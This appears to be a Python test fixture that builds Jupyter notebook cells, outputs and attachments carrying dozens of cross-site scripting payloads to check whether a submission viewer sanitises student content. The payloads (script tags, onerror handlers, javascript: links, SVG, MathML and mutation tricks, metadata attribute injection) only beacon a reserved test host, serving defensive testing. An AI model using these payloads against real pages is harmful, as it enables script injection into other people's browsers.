"""Script in a submission: every way we know to get it into a page.

Whatever runs asks for ``http://ran.invalid/<name>``, so that a browser's test can see it, also from
inside a frame.
"""

from __future__ import annotations

import json

import nbformat
from nbformat import NotebookNode

HOST = "http://ran.invalid/"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGN44CAARAwQCgAkjgTBaXaILQAAAABJRU5E"
    "rkJggg=="
)
JPEG = (
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4"
    "UG1RV19iZ2hnPk1xeXBkeFxlZ2P/wAALCAACAAIBAREA/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QA"
    "tRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0"
    "NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2"
    "t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/9oACAEBAAA/AKlf/9k="
)
WORDS = "The honest part of the answer"
PRINTED = "printed by the honest part"
IN_TABLE = "in the honest table"


def run(name: str) -> str:
    """Return JavaScript that says it ran; it needs no double quote, space or angle bracket."""
    return f"void(new/**/Image().src='{HOST}{name}')"


def _fill(text: str, name: str) -> str:
    return text.replace("RUN", run(name))


_MARKDOWN = {
    "md-script": "<script>RUN</script>",
    "md-onerror": '<img src=x onerror="RUN">',
    "md-link": "[click](javascript:RUN)",
    "md-link-entity": "[click](&#106;avascript:RUN)",
    "md-link-tab": '<a href="java\tscript:RUN">click</a>',
    "md-link-files": "[click](files/javascript:RUN)",
    "md-link-files-html": '<a href="/files/javascript:RUN">click</a>',
    "md-link-title": '[click](https://example.org "a\\" onmouseover=\\"RUN")',
    "md-reference": "[click][ref]\n\n[ref]: javascript:RUN",
    "md-autolink": "<javascript:RUN>",
    "md-image-alt": '![x" onerror="RUN](nothing.png)',
    "md-svg-onload": '<svg onload="RUN"><circle r="5"/></svg>',
    "md-svg-script": "<svg><script>RUN</script></svg>",
    "md-svg-link": '<svg><a xlink:href="javascript:RUN"><text y="9">click</text></a></svg>',
    "md-math-link": '<math><maction xlink:href="javascript:RUN">click</maction></math>',
    "md-frame-srcdoc": '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "md-frame-src": '<iframe src="javascript:RUN"></iframe>',
    "md-object": '<object data="javascript:RUN"></object>',
    "md-embed": '<embed src="javascript:RUN">',
    "md-toggle": '<details open ontoggle="RUN"><summary>open</summary>x</details>',
    "md-video": '<video><source onerror="RUN"></video>',
    "md-focus": '<input autofocus onfocus="RUN">',
    "md-form": '<form action="javascript:RUN"><button>press</button></form>',
    "md-formaction": '<form><button formaction="javascript:RUN">press</button></form>',
    "md-mouse": '<b onmouseover="RUN">hover</b>',
    "md-style-animation": (
        "<style>@keyframes k{}</style>"
        '<p style="animation-name:k;animation-duration:1ms" onanimationstart="RUN">x</p>'
    ),
    "md-base": '<base href="javascript:/a/-RUN//"><a href="#">click</a>',
    "md-refresh": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "md-comment": '<!--><img src=x onerror="RUN">-->',
    "md-comment-bang": '<!-- --!><img src=x onerror="RUN"> -->',
    "md-noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "md-textarea": '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
    "md-mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=RUN&gt;">'
    ),
    "md-xmp": '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    "md-unclosed": '<img src=x onerror="RUN" ',
    "md-formula": r"$\href{javascript:RUN}{click}$",
    "md-formula-html": '$<img src=x onerror="RUN">$',
    "md-mermaid": '```mermaid\n<img src=x onerror="RUN">\n```',
    "md-language": '```"><img/src=x/onerror=RUN>\ncode\n```',
    "md-heading": '# a <img src=x onerror="RUN">',
    "md-table": '|a|\n|-|\n|<img src=x onerror="RUN">|',
    "md-breakout": "</div></div></div></body></html><script>RUN</script>",
    "md-template": "{{ cell.__class__ }}<script>RUN</script>",
    "md-tooltip": (
        '<a data-toggle="tooltip" data-html="true" class="btn" '
        'title="<img src=x onerror=RUN>">hover</a>'
    ),
}

_OUTPUTS = {
    "out-script": ("text/html", "<script>RUN</script>"),
    "out-onerror": ("text/html", '<img src=x onerror="RUN">'),
    "out-frame": ("text/html", '<iframe srcdoc="<script>RUN</script>"></iframe>'),
    "out-link": ("text/html", '<a href="javascript:RUN">click</a>'),
    "out-svg-in-html": ("text/html", "<svg><script>RUN</script></svg>"),
    "out-table": ("text/html", '<table><tr><td onmouseover="RUN">hover</td></tr></table>'),
    "out-breakout": ("text/html", "</div></div></pre><script>RUN</script>"),
    "out-style": ("text/html", "<style></style><script>RUN</script>"),
    "out-javascript": ("application/javascript", "RUN"),
    "out-text-javascript": ("text/javascript", "RUN"),
    "out-svg": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>',
    ),
    "out-markdown": ("text/markdown", '<img src=x onerror="RUN"> [click](javascript:RUN)'),
    "out-latex": ("text/latex", '$\\href{javascript:RUN}{x}$<img src=x onerror="RUN">'),
    "out-mermaid": ("text/vnd.mermaid", '<img src=x onerror="RUN">'),
    "out-plain": ("text/plain", '</pre><img src=x onerror="RUN">'),
    "out-png-content": ("image/png", 'x" onerror="RUN'),
    "out-jpeg-content": ("image/jpeg", 'x" onerror="RUN'),
    "out-kind": ('text/x"><img src=x onerror="RUN">', "x"),
}

_SIZES = {
    "meta-png": ("image/png", PNG, {"image/png": {"width": "1 onload=RUN"}}),
    "meta-png-height": ("image/png", PNG, {"image/png": {"height": "1 onload=RUN"}}),
    "meta-jpeg": ("image/jpeg", JPEG, {"image/jpeg": {"width": "1 onload=RUN"}}),
    "meta-top": ("image/png", PNG, {"width": "1 onload=RUN"}),
    "meta-alt": ("image/png", PNG, {"image/png": {"alt": 'x" onload="RUN'}}),
    "meta-isolated": (
        "text/html",
        "<script>RUN</script>",
        {"text/html": {"isolated": True}},
    ),
}

_PRINTED = {
    "print-script": "</pre><script>RUN</script>",
    "print-onerror": '<img src=x onerror="RUN">',
    "print-colour": '\x1b[31;"><img src=x onerror="RUN">m\x1b[0m',
    "print-link": "\x1b]8;;javascript:RUN\x1b\\click\x1b]8;;\x1b\\",
}

MARKDOWN = {name: _fill(text, name) for name, text in _MARKDOWN.items()}
"""Markdown by the name of the payload in it."""
DISPLAYED = {
    **{name: (mime, _fill(text, name), {}) for name, (mime, text) in _OUTPUTS.items()},
    **{
        name: (mime, _fill(text, name), json.loads(_fill(json.dumps(metadata), name)))
        for name, (mime, text, metadata) in _SIZES.items()
    },
}
"""MIME type, content and metadata of outputs."""
PRINTED_TEXTS = {name: _fill(text, name) for name, text in _PRINTED.items()}
WIDGET_VIEW = {"version_major": 2, "version_minor": 0, "model_id": "x"}

NAMES = [*MARKDOWN, *DISPLAYED, *PRINTED_TEXTS, "error", "in-test", "raw", "code", "attachment"]
"""All payloads."""


def code() -> str:
    """Return student code that outputs every payload, and what has to stay readable."""
    wide = {"width": 20, "height": 20}
    return f"""\
# </pre></div><script>{run("code")}</script>
from IPython.display import display
print({PRINTED!r})
display({{"text/html": "<table><tr><td>{IN_TABLE}</td></tr></table>"}}, raw=True)
display({{"image/png": {PNG!r}}}, metadata={{"image/png": {wide}}}, raw=True)
display({{"image/jpeg": {JPEG!r}}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {WIDGET_VIEW}, "text/plain": "Explorer()"}},
        raw=True)
for mime, content, metadata in {list(DISPLAYED.values())!r}:
    display({{mime: content}}, metadata=metadata, raw=True)
for text in {list(PRINTED_TEXTS.values())!r}:
    print(text)
raise ValueError({f'</pre><img src=x onerror="{run("error")}">'!r})
"""


def in_test(name: str = "in-test") -> str:
    """Return student code that outputs a payload when it is called by a test."""
    return f"""\
    from IPython.display import HTML, display
    display(HTML({f"<script>{run(name)}</script>"!r}))
"""


def cells() -> list[NotebookNode]:
    """Return cells that a student may have added."""
    added = [nbformat.v4.new_markdown_cell(text) for text in MARKDOWN.values()]
    added.append(nbformat.v4.new_code_cell(code()))
    added.append(nbformat.v4.new_raw_cell(f'<img src=x onerror="{run("raw")}">'))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{run("attachment")}</script></svg>'
    attached = nbformat.v4.new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b.png)")
    attached.attachments = {
        "a.svg": {"image/svg+xml": svg},
        "b.png": {"image/png": f'x" onerror="{run("attachment")}'},
    }
    added.append(attached)
    button = '<button data-commandlinker-command="help:about">press</button>'
    added.append(nbformat.v4.new_markdown_cell(button))
    return added
